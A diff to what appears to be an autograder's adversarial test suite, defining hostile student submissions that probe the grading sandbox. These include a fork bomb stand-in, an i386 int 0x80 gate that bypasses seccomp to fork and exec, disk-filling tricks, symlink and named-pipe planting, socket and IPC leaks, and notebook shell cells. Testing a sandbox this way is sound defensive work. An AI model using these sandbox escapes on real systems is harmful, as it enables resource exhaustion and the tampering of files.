@@ -27,6 +27,8 @@ POINTS = {  # automatic items of rubrics/assignment4 (95 in all), checked agains
     "p3.relu": 4, "p3.relu_grad": 8, "p3.neuron_grad": 8, "p3.weights_change": 3,
     "p4.l2_update": 10, "p4.update_rule": 8, "p4.decay_factor": 3,
 }
+CLASS_FILES = frozenset({"gradebook.csv", "gradebook.json", "manual_template.csv",
+                         "summary.html", "summary.md"})  # what the batch writes in out/
 MODULE_ITEMS = {m: tuple(i for i in POINTS if i.startswith(f"p{m[-1]}."))
                 for m in ("problem1", "problem2", "problem3", "problem4")}
 
@@ -63,8 +65,8 @@ class Attack:
     rejected: bool = False  # the whole submission is refused (0, an error in its record)
     victims: tuple[str, ...] = ()  # paths it aims at that a dedicated test checks
     hole: str = ""  # a hole this attack exposes, found by the check named in ``exposes``
-    exposes: str = ""  # the check it defeats: score, victims, survivors, nproc, fifo, lines,
-    #                    network, disk or ipc
+    exposes: str = ""  # the check it aims at: score, victims, survivors, nproc, fifo, lines,
+    #                    network, disk or ipc (with ``hole``: the check it defeats)
 
     @property
     def source_name(self) -> str:
@@ -72,9 +74,11 @@ class Attack:
 
     @property
     def submission(self) -> str:
-        """The name the batch gives it (the zip's name without .zip)."""
+        """The name the batch gives it: the zip's name without .zip, with a "_" in front of
+        a name that is empty, starts with "." or is the name of a class file."""
         name = self.source_name
-        return name[:-4] if name.lower().endswith(".zip") else name
+        name = name[:-4] if name.lower().endswith(".zip") else name
+        return f"_{name}" if not name or name.startswith(".") or name in CLASS_FILES else name
 
 
 def _code(pieces: tuple[str, ...]) -> str:
@@ -478,10 +482,10 @@ attack("result_fd_injection", "at import, finds the reply pipe (/proc/self/fd, e
 # --- processes -----------------------------------------------------------------------------
 
 attack("detached_grandchild", "at import, double-forks a grandchild in a new session that "
-       "execs Python with a marker in its argv and keeps trying to rewrite results files",
+       "execs Python with a marker in its argv and keeps trying to rewrite results files "
+       "(the seccomp filter denies the fork: problem3 fails to import with PermissionError)",
+       module("problem3", "error"), 72,
        exposes="survivors",
-       hole="a grandchild that calls setsid() leaves the worker's process group, so "
-            "_killpg() in execution.py misses it and it outlives the grading",
        files={"problem3.py": patched("problem3.py", """
            import os
            import sys
@@ -515,20 +519,21 @@ attack("detached_grandchild", "at import, double-forks a grandchild in a new ses
        """)})
 
 attack("many_processes", "at import, forks 200 sleeping children renamed with a marker "
-       "(a bounded stand-in for a fork bomb); REASONS says how many forks succeeded",
+       "(a bounded stand-in for a fork bomb), then tries subprocess, posix_spawn and exec; "
+       "REASONS says how many forks succeeded and what each attempt got",
        exposes="nproc",
-       hole="nothing limits how many processes a worker starts (no RLIMIT_NPROC, pids "
-            "cgroup or seccomp filter): a real fork bomb would stall the whole machine",
-       files={"problem1.py": patched("problem1.py", """
+       files={"problem1.py": patched("problem1.py", _TRY, """
            import ctypes
            import os
+           import subprocess
            import time
            _libc = ctypes.CDLL(None)
-           _forked = 0
+           _forked, _errors = 0, set()
            for _ in range(200):
                try:
                    pid = os.fork()
-               except OSError:
+               except OSError as e:
+                   _errors.add(f"{type(e).__name__}: {e}")
                    continue
                if pid == 0:
                    try:
@@ -537,7 +542,66 @@ attack("many_processes", "at import, forks 200 sleeping children renamed with a 
                    finally:
                        os._exit(0)
                _forked += 1
-           REASONS = f"forked {_forked} of 200"
+           REASONS = "\\n".join([
+               f"forked {_forked} of 200: {sorted(_errors)}",
+               _try("subprocess", lambda: subprocess.run(
+                   ["/bin/sh", "-c", "exec -a GADV-@NONCE@-many_processes sleep 60"])),
+               _try("posix_spawn", lambda: os.posix_spawn(
+                   "/bin/sleep", ["GADV-@NONCE@-many_processes", "60"], {})),
+               # if exec were allowed, the worker would become sleep and problem1 crash
+               _try("exec", lambda: os.execv("/bin/sleep", ["GADV-@NONCE@-many_processes", "0"])),
+           ])
+       """)})
+
+attack("i386_syscall_gate", "at import, makes system calls through the 32-bit gate (int 0x80, "
+       "from a few bytes of machine code run by ctypes): socket(), then fork() and, in the "
+       "child, setsid() and execve() of Python with a marker in its argv that sleeps 40 s; "
+       "REASONS is what each returned",
+       exposes="survivors",
+       hole="sandbox._seccomp_program() allows every call whose architecture is not the "
+            "native one ('another ABI: not ours to judge'): on x86-64 a worker reaches the "
+            "i386 fork, execve, socketcall and ipc calls through int 0x80 unfiltered, so "
+            "it can start processes that leave its session and outlive the batch, open "
+            "UDP or Unix sockets and make System V IPC objects (needs the kernel's IA-32 "
+            "emulation, on by default)",
+       files={"problem1.py": patched("problem1.py", """
+           import ctypes
+           import mmap
+           import os
+           import struct
+           import sys
+           def _i386_gate():
+               if os.uname().machine != "x86_64":
+                   return "not x86-64"
+               low = mmap.mmap(-1, 1 << 14, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40,
+                               prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)  # MAP_32BIT
+               base = ctypes.addressof(ctypes.c_char.from_buffer(low))
+               def put(offset, data):
+                   low[offset:offset + len(data)] = data
+                   return base + offset
+               # push rbx; mov eax, edi; mov ebx, esi; xchg ecx, edx; int 0x80; pop rbx; ret
+               code = put(0, bytes.fromhex("53 89f8 89f3 87d1 cd80 5b c3"))
+               gate = ctypes.PYFUNCTYPE(ctypes.c_int, *[ctypes.c_uint] * 4)(code)
+               offset, argv = 256, []
+               for arg in (sys.executable, "-I", "-S", "-c", "import time; time.sleep(40)",
+                           "GADV-@NONCE@-i386_syscall_gate"):
+                   argv.append(put(offset, arg.encode() + b"\\0"))
+                   offset += len(arg.encode()) + 1
+               argv_at = put(8192, struct.pack(f"<{len(argv) + 1}I", *argv, 0))
+               envp_at = put(8448, struct.pack("<I", 0))
+               sock = gate(102, 1, put(8704, struct.pack("<3I", 2, 2, 0)), 0)  # socketcall:
+               if sock >= 0:                                  # socket(AF_INET, SOCK_DGRAM, 0)
+                   os.close(sock)
+               pid = gate(2, 0, 0, 0)  # fork
+               if pid == 0:
+                   try:
+                       os.setsid()
+                       os.closerange(3, 1024)
+                       gate(11, argv[0], argv_at, envp_at)  # execve
+                   finally:
+                       os._exit(0)
+               return f"i386 socket: {sock}; i386 fork: {pid}"
+           REASONS = _i386_gate()
        """)})
 
 attack("memory_bomb_at_call", "l2_update allocates 80 GB",
@@ -601,35 +665,84 @@ attack("output_flood", "relu_grad prints 100 MB, then writes without end to fds 
                    os.write(2, data)
        """)})
 
-attack("disk_fill", "at import, ignores SIGXFSZ and writes four 32 MB files and one endless "
-       "file in its folder (and tries /tmp); count_parameters returns the bytes written",
+# Files an attack writes in its private folder are named gadv-<attack>-<n>.bin: the test
+# watches how much those take on disk while the batch runs.
+_FILL = '''
+import os
+import signal
+signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
+WRITTEN = 0
+_BLOCK = b"GADV" * (2**20 // 4)
+def _fill(path, megabytes, keep=False):
+    """Write that many MB to ``path`` (fewer past the file-size limit); with ``keep``, return
+    the file still open."""
+    global WRITTEN
+    f = None
+    try:
+        f = open(path, "wb")
+        for _ in range(megabytes):
+            f.write(_BLOCK)
+            f.flush()
+            WRITTEN += len(_BLOCK)
+    except OSError:
+        pass
+    if keep:
+        return f
+    if f is not None:
+        f.close()
+'''
+
+attack("disk_fill", "count_parameters ignores SIGXFSZ and writes files into its folder without "
+       "end, 100 MB for the first (the file-size limit stops it at 64 MB) and 32 MB for each "
+       "next (at import it tries /tmp): the disk budget stops it",
+       items("p2.count_parameters", status="crashed"), 87,
+       files={"problem2.py": patched("problem2.py", _FILL, """
+           _fill("/tmp/gadv_fill_@NONCE@.bin", 8)
+           def count_parameters(layer_sizes):
+               _fill("gadv-disk_fill-0.bin", 100)
+               for _i in range(1, 64):  # 2 GB in all, should nothing stop it
+                   _fill(f"gadv-disk_fill-{_i}.bin", 32)
+               return WRITTEN
+       """)})
+
+attack("disk_fill_unlinked", "at import, writes five 50 MB files in its folder, unlinking each "
+       "at once but keeping it open (250 MB on disk that no folder shows); count_parameters "
+       "returns the bytes it holds",
        items("p2.count_parameters", status="failed"), 87,
        exposes="disk",
-       hole="RLIMIT_FSIZE caps each file, not the total: a submission can fill the disk "
-            "with many files in its private folder",
-       files={"problem2.py": patched("problem2.py", """
-           import os
-           import signal
-           signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
-           WRITTEN = 0
-           _block = b"GADV" * (2**20 // 4)
-           def _fill(path, megabytes):
-               global WRITTEN
-               try:
-                   with open(path, "wb") as f:
-                       for _ in range(megabytes):
-                           f.write(_block)
-                           f.flush()
-                           WRITTEN += len(_block)
-               except OSError:
-                   pass
-           for _i in range(4):
-               _fill(f"fill{_i}.bin", 32)
-           _fill("endless.bin", 100)
-           _fill("/tmp/gadv_fill_@NONCE@.bin", 8)
+       hole="execution._disk_usage() adds up what the private folder's entries take: a file "
+            "deleted while still open takes disk space and shows in no folder, so a worker "
+            "holds up to RLIMIT_NOFILE x RLIMIT_FSIZE (256 x 64 MB = 16 GB) unseen, for as "
+            "long as it runs (memfd_create files likewise, in RAM)",
+       files={"problem2.py": patched("problem2.py", _FILL, """
+           _HELD = []
+           for _i in range(5):
+               _HELD.append(_fill(f"gadv-disk_fill_unlinked-{_i}.bin", 50, keep=True))
+               os.unlink(f"gadv-disk_fill_unlinked-{_i}.bin")
            def count_parameters(layer_sizes):
                return WRITTEN
        """)})
+
+
+def _fill_in_worker(worker: int, then: str) -> str:
+    """Code that writes 150 MB in five files, then runs ``then``."""
+    return _code((_FILL, f"""
+        for _i in range(5):
+            _fill(f"gadv-disk_fill_across_workers-{worker}{{_i}}.bin", 30)
+        {then}
+    """))
+
+
+attack("disk_fill_across_workers", "at import, problem1 writes 150 MB (under the budget) into "
+       "its worker's folder and ends the worker; problem2 writes 150 MB more in the next "
+       "worker's and carries on: 300 MB at once",
+       module("problem1", "crashed"), 78,
+       exposes="disk",
+       hole="the disk budget is per worker: each relaunched worker gets a fresh folder and "
+            "budget while the dead workers' folders stay on disk until the whole submission "
+            "is graded, so a submission holds up to (workers it causes) x budget",
+       files={"problem1.py": prepended("problem1.py", _fill_in_worker(1, "os._exit(1)")),
+              "problem2.py": prepended("problem2.py", _fill_in_worker(2, "pass"))})
 
 attack("deep_recursion", "relu raises the recursion limit to 10**6 and recurses that deep",
        items("p3.relu", status="failed"), 91,
@@ -660,12 +773,8 @@ attack("deeply_nested_return", "softmax returns a list nested 10**5 deep",
        """)})
 
 attack("int_too_large_for_float", "count_parameters returns 10**400, a plain int the wire "
-       "accepts (1000 digits) but float() cannot convert",
+       "accepts (1000 digits) but float() cannot convert: just a wrong value",
        items("p2.count_parameters", status="failed"), 87,
-       exposes="score",
-       hole="compare.as_number() calls float() on a decoded int of up to 1000 digits: "
-            "OverflowError escapes grading and the whole submission scores 0 as 'the grader "
-            "failed'",
        files={"problem2.py": patched("problem2.py", """
            def count_parameters(layer_sizes):
                return 10**400
@@ -676,9 +785,6 @@ attack("int_too_large_for_float", "count_parameters returns 10**400, a plain int
 attack("symlink_to_rubric", "problem2.py is a symlink to the reference solution, beside links "
        "to the rubric and the reference folder",
        module("problem2", "error"), 61, remove=("problem2.py",), exposes="lines",
-       hole="pipeline._definition_lines() follows a module symlink out of the submission and "
-            "parses the file it points at in the grader: the report shows the line numbers "
-            "of the reference solution's definitions",
        symlinks={"problem2.py": "@REFERENCE@/problem2.py", "rubric.yaml": "@RUBRIC@",
                  "reference": "@REFERENCE@"})
 
@@ -726,10 +832,7 @@ attack("null_byte_source", "problem3.py holds a null byte",
 
 attack("fifo_in_submission", "problem1.py is a named pipe: whoever opens it blocks",
        module("problem1", "error"), 78, remove=("problem1.py",), fifos=("problem1.py",),
-       exposes="fifo",
-       hole="pipeline._definition_lines() reads <module>.py from the ORIGINAL submission "
-            "folder in the grader process: a named pipe blocks the batch forever (a symlink "
-            "to /dev/zero would exhaust the grader's memory)")
+       exposes="fifo")
 
 _NOTEBOOK_CELLS = ["!touch @VICTIMS@/pwned_shell", "%run /etc/passwd",
                    "get_ipython().system('touch @VICTIMS@/pwned_ipython')",
@@ -886,10 +989,8 @@ attack("public_network", "WEIGHT_DECAY_EXPLANATION is the outcome of TCP connect
        """)})
 
 attack("udp_loopback", "sends a UDP datagram to the test's socket on 127.0.0.1 (and one to a "
-       "public address)",
+       "public address); WEIGHT_DECAY_EXPLANATION is what each got",
        exposes="network",
-       hole="Landlock (ABI <= 7) restricts TCP only: UDP sockets reach loopback services and "
-            "the network",
        files={"problem4.py": patched("problem4.py", _CONNECT, """
            WEIGHT_DECAY_EXPLANATION = "\\n".join([
                _connect("127.0.0.1", @UPORT@, socket.SOCK_DGRAM),
@@ -897,10 +998,8 @@ attack("udp_loopback", "sends a UDP datagram to the test's socket on 127.0.0.1 (
        """)})
 
 attack("unix_socket_connect", "connects to a Unix socket the test listens on (think "
-       "/run/docker.sock or an ssh-agent)",
+       "/run/docker.sock or an ssh-agent); WEIGHT_DECAY_EXPLANATION is what it got",
        exposes="network",
-       hole="Landlock (ABI <= 7) does not restrict connect() on pathname Unix sockets: any "
-            "local service listening on one is reachable",
        files={"problem4.py": patched("problem4.py", _TRY, """
            import socket
            def _unix():
@@ -964,52 +1063,53 @@ attack("report_injection", "script, HTML and Markdown in APPROACH, REASONS, prin
            """)})
 
 # --- the private folder, between two workers ------------------------------------------------
+# A worker runs in <base>/worker<n>/submission; the grader's plan.json and the worker's
+# stderr.txt are in <base>/control, out of its reach; a relaunched worker gets worker<n+1>.
 
-attack("stderr_fifo", "at import, replaces its worker's stderr.txt (in its private folder) "
-       "with a named pipe, then exits so the grader reads it",
+_PLANT = '''
+def _plant(path, make):
+    try:
+        os.unlink(path)
+    except OSError:
+        pass
+    try:
+        make(path)
+    except OSError:
+        pass
+'''
+
+attack("stderr_fifo", "at import, replaces its worker's stderr.txt (in control/, and where it "
+       "used to be, in its own folder) with a named pipe, then exits so the grader reads it",
        module("problem4", "crashed"), 74,
        exposes="fifo",
-       hole="execution._death_message() reads private/stderr.txt, which the worker may "
-            "replace: a named pipe blocks the grader forever (a symlink to /dev/zero would "
-            "exhaust its memory)",
-       files={"problem4.py": prepended("problem4.py", """
-           import os
-           os.unlink("../stderr.txt")
-           os.mkfifo("../stderr.txt")
+       files={"problem4.py": prepended("problem4.py", "import os", _PLANT, """
+           for _path in ("../stderr.txt", "../../control/stderr.txt"):
+               _plant(_path, os.mkfifo)
            os._exit(1)
        """)})
 
 attack("private_symlink_clobber", "at import, plants symlinks named plan.json and stderr.txt "
-       "in its private folder pointing at victim files, then crashes so that a fresh worker "
-       "is launched in the same folder",
+       "pointing at victim files (in control/, in its own folder and as the next worker's "
+       "folder), then crashes so that a fresh worker is launched",
        module("problem1", "crashed"), 78,
        victims=("@VICTIMS@/plan_victim.txt", "@VICTIMS@/stderr_victim.txt"),
        exposes="victims",
-       hole="after a worker dies, the next worker reuses the private folder: the grader "
-            "writes plan.json and the fork server opens stderr.txt with O_TRUNC through the "
-            "dead worker's symlinks, overwriting any file the grader may write",
-       files={"problem1.py": prepended("problem1.py", """
-           import os
-           for _name, _target in (("../plan.json", "@VICTIMS@/plan_victim.txt"),
-                                  ("../stderr.txt", "@VICTIMS@/stderr_victim.txt")):
-               try:
-                   os.unlink(_name)
-               except FileNotFoundError:
-                   pass
-               os.symlink(_target, _name)
+       files={"problem1.py": prepended("problem1.py", "import os", _PLANT, """
+           for _name, _target in (("plan.json", "@VICTIMS@/plan_victim.txt"),
+                                  ("stderr.txt", "@VICTIMS@/stderr_victim.txt")):
+               for _folder in ("..", "../../control"):
+                   _plant(f"{_folder}/{_name}", lambda p, t=_target: os.symlink(t, p))
+           _plant("../../worker2", lambda p: os.symlink("@VICTIMS@", p))
            os._exit(1)
        """)})
 
 attack("workdir_symlink_escape", "at import, replaces private/submission with a symlink to "
-       "its own original folder and crashes: the next worker resolves the link, and Landlock "
-       "lets it write the link target's parent (the class folder)",
+       "its own original folder, plants the next worker's folder as a symlink to the class "
+       "folder, and crashes: a next worker that followed either could write the class folder",
        module("problem1", "crashed"), 78,
        victims=("@CLASS@/gadv_workdir_escape.txt",
                 "@CLASS@/bob_forgot_biases/gadv_workdir_escape.txt"),
        exposes="victims",
-       hole="worker.run_plan() resolves plan['root'] and confines writes to root.parent: a "
-            "dead worker's symlink at private/submission makes the next worker writable on "
-            "any folder's parent (here, every submission)",
        files={
            "problem1.py": prepended("problem1.py", """
                import os
@@ -1017,6 +1117,10 @@ attack("workdir_symlink_escape", "at import, replaces private/submission with a 
                        "@CLASS@/workdir_symlink_escape"):
                    os.rename("../submission", "../submission_moved")
                    os.symlink("@CLASS@/workdir_symlink_escape", "../submission")
+                   try:
+                       os.symlink("@CLASS@", "../../worker2")
+                   except OSError:
+                       pass
                    os._exit(1)
            """),
            "problem2.py": prepended("problem2.py", """
@@ -1030,25 +1134,30 @@ attack("workdir_symlink_escape", "at import, replaces private/submission with a 
                        pass
            """)})
 
-attack("sysv_ipc_leak", "at import, creates a System V shared-memory segment and message "
-       "queue, which no process owns",
+attack("sysv_ipc_leak", "at import, creates a System V shared-memory segment, semaphore set "
+       "and message queue, which no process owns (they would outlive the worker: no IPC "
+       "namespace); WEIGHT_DECAY_EXPLANATION is what each call returned",
        exposes="ipc",
-       hole="System V IPC objects outlive the worker (no IPC namespace): a submission can "
-            "leave shared memory behind, RAM that no rlimit or kill reclaims",
        files={"problem4.py": patched("problem4.py", """
            import ctypes
+           import os
            _libc = ctypes.CDLL(None, use_errno=True)
-           _libc.shmget(ctypes.c_int(@IPCKEY@), ctypes.c_size_t(2**20), ctypes.c_int(0o1600))
-           _libc.msgget(ctypes.c_int(@IPCKEY@), ctypes.c_int(0o1600))
+           def _ipc(name, *args):
+               ctypes.set_errno(0)
+               result = getattr(_libc, name)(ctypes.c_int(@IPCKEY@), *args)
+               return f"{name}: {result} ({os.strerror(ctypes.get_errno())})"
+           WEIGHT_DECAY_EXPLANATION = "\\n".join([
+               _ipc("shmget", ctypes.c_size_t(2**20), ctypes.c_int(0o1600)),
+               _ipc("semget", ctypes.c_int(1), ctypes.c_int(0o1600)),
+               _ipc("msgget", ctypes.c_int(0o1600))])
        """)})
 
-attack("dotdot_zip_name", "alice's modules in a zip named '...zip', so the batch names the "
-       "submission '..'", zip=True, filename="...zip",
+attack("dotdot_zip_name", "alice's modules in a zip named '...zip': the batch names the "
+       "submission '_..', so its reports land in out/_.. and not in out/..", zip=True,
+       filename="...zip",
        victims=("@OUTPARENT@/report.html", "@OUTPARENT@/report.md",
                 "@OUTPARENT@/results.json", "@OUTPARENT@/.grader-state.json"),
-       exposes="victims",
-       hole="batch.submission_name() turns '...zip' into '..', and _grade_one() writes its "
-            "reports and state file to out/.., outside the out folder")
+       exposes="victims")
 
 BY_NAME = {a.name: a for a in ATTACKS}
 assert len(BY_NAME) == len(ATTACKS), "attack names must be unique"
